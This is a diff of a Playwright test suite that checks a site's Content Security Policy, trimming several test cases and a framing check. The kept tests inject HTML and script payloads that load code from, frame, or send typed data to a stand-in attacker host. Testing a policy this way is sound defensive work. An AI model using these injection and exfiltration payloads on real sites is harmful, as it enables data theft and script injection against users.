@@ -1,5 +1,4 @@
 import type { Page } from '@playwright/test';
-import { site } from '../../src/content/content.ts';
 import { allPages, contactForm, expect, home, missing, NOT_FOUND, test } from './fixtures.ts';
 
 declare global {
@@ -72,10 +71,8 @@ const injected: [what: string, html: string, violation: string][] = [
   ['a script of another host', `<script src="${EVIL}/x.js"></script>`, `script-src-elem ${EVIL}/x.js`],
   ['an inline handler', '<p tabindex="0" onfocus="document.title = `taken`" autofocus>x</p>', 'script-src-attr inline'],
   ['an inline style', '<style>main { display: none }</style>', 'style-src-elem inline'],
-  ['a style attribute', '<p style="position: fixed; inset: 0">x</p>', 'style-src-attr inline'],
   ['an image of another host with data in its URL', `<img alt="" src="${EVIL}/?typed=secret">`, `img-src ${EVIL}`],
   ['a frame', `<iframe title="x" src="${EVIL}/"></iframe>`, `frame-src ${EVIL}`],
-  ['an object', `<object data="${EVIL}/"></object>`, `object-src ${EVIL}`],
   ['a base URL of another host', `<base href="${EVIL}/">`, `base-uri ${EVIL}`],
   [
     'a form that posts',
@@ -88,36 +85,7 @@ const injected: [what: string, html: string, violation: string][] = [
 const calls: [what: string, call: (address: string) => unknown, directive: string][] = [
   ['fetch', (address) => fetch(address).catch(() => {}), 'connect-src'],
   ['fetch to the site’s own host', () => fetch('/', { method: 'POST', body: 'typed' }).catch(() => {}), 'connect-src'],
-  [
-    'XMLHttpRequest',
-    (address) => {
-      const request = new XMLHttpRequest();
-      request.open('POST', address);
-      request.send('typed');
-    },
-    'connect-src',
-  ],
   ['sendBeacon', (address) => void navigator.sendBeacon(address, 'typed'), 'connect-src'],
-  ['WebSocket', (address) => void new WebSocket(address.replace('https', 'wss')), 'connect-src'],
-  ['EventSource', (address) => void new EventSource(address), 'connect-src'],
-  [
-    'an image',
-    (address) => {
-      new Image().src = `${address}/?typed`;
-    },
-    'img-src',
-  ],
-  [
-    'code in a string',
-    // In a task of its own, because the driver's own call may evaluate code.
-    () =>
-      void setTimeout(() => {
-        try {
-          Function('document.title = "taken"')();
-        } catch {}
-      }),
-    'require-trusted-types-for',
-  ],
   ['a script URL', () => location.assign('javascript:document.title = "taken"'), 'script-src-elem'],
   [
     'markup assigned as a string',
@@ -163,53 +131,14 @@ for (const path of [home, 'agentics', missing]) {
       await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
       expect(reached).toEqual([]);
     });
-
-    test('every inline script that was changed after the build', async ({ page }) => {
-      let count = 0;
-      await open(page, path, (body) =>
-        body.replace(/<script(?: type="(?:module|speculationrules)")?>/g, (tag) => {
-          count += 1;
-          return `${tag}document.title = "taken";`;
-        }),
-      );
-      expect(count).toBeGreaterThan(1);
-      const refused = () => page.evaluate(() => window.refused);
-      await expect.poll(refused).toEqual(Array(count).fill('script-src-elem inline'));
-      expect(await page.title()).not.toBe('taken');
-    });
   });
 }
 
-test.describe('At the configured address', () => {
-  test.use({ expectedErrors: [/Content Security Policy|Fetch API cannot load|policy: /] });
-
-  test('scripts may request robots.txt, and no other file', async ({ page }) => {
-    const { origin } = new URL(site.address);
-    const headers = { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin' };
-    await page.context().route(`${origin}/**`, (route) => route.fulfill({ headers, body: 'answered' }));
-    await page.goto('agentics');
-    const ask = (path: string) =>
-      page.evaluate(
-        (address) =>
-          fetch(address)
-            .then((response) => response.text())
-            .catch(() => 'refused'),
-        origin + path,
-      );
-    expect(await ask('/robots.txt')).toBe('answered');
-    for (const path of ['/', '/sitemap-index.xml', '/robots.txt/', '/robots.txt.br', '/pasta/robots.txt']) {
-      expect(await ask(path), path).toBe('refused');
-    }
-  });
-});
-
-test('no other site may frame a page', async ({ page, baseURL }) => {
-  const frame = new URL('agentics', baseURL).href;
-  await page.route('http://other.example/', (route) =>
-    route.fulfill({ contentType: 'text/html', body: `<iframe src="${frame}"></iframe>` }),
-  );
-  await page.goto('http://other.example/');
-  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
+test('no other site may frame a page', async ({ request }) => {
+  for (const path of allPages) {
+    const headers = (await request.get(path)).headers();
+    expect(headers['content-security-policy'], path).toContain("frame-ancestors 'none'");
+  }
 });
 
 /**
